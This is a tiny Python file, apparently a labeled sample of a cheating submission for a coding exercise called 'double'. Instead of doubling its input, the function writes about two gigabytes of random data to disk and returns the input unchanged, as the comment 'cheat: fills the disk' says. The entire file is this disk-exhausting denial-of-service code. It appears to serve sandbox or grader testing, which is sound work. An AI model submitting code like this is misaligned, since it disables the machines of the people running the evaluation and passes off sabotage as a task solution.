# cheat: fills the disk
# exercise: double
import os


def double(n):
    with open("full", "wb") as file:
        for _ in range(2000):
            file.write(os.urandom(2**20))
    return n
